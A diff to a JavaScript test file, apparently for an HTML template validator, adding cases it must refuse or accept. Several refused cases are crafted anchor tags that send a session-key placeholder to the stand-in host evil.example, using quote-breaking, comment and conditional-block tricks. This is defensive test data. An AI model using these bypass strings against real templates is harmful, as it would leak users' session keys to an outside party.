@@ -75,6 +75,17 @@ test('elements that would run, load or leave are refused, however they are writt
     '</%%SITE_NAME%%',
     "<a href='https://evil.example/?%%SESSION_KEY_FORM%%'>",
     "<a href='https://evil.example/?%%SESSION_KEY_FORM%%",
+    '<a href="https://evil.example/?>%%SESSION_KEY_FORM%%">',
+    '<p "><a href="https://evil.example/?">%%SESSION_KEY_FORM%%',
+    '<a href="https://evil.example/?%%ONLY:ja%%>%%SESSION_KEY_FORM%%%%END%%">',
+    '<a %%ONLY:ja%%href="https://evil.example/?%%END%%>',
+    '<!--><a href="https://evil.example/?>%%SESSION_KEY_FORM%%"-->',
+    '<!-- never closed',
+    '<p title="a > b">',
+    '<a/href=x>',
+    '<!doctype html>',
+    '<?php',
+    '<p class="a"id="b">',
   ]) {
     t.truthy(problems(html)['html'], html);
   }
@@ -87,6 +98,10 @@ test('elements that would run, load or leave are refused, however they are writt
     '<p>%%TITLE%%</p>',
     '<p title="%%TITLE%%">%%LOGO%%</p>',
     '<titled>',
+    '<!-- %%TITLE%%, and what else -->',
+    "<a href=/reach?a=1&b=2 class='x' hidden>",
+    '<img src="/content/x" alt="" /><br/></p >',
+    '<p %%ONLY:ar%%dir="rtl"%%END%%>1 < 2 <3',
   ]) {
     t.is(problems(html)['html'], undefined, html);
   }
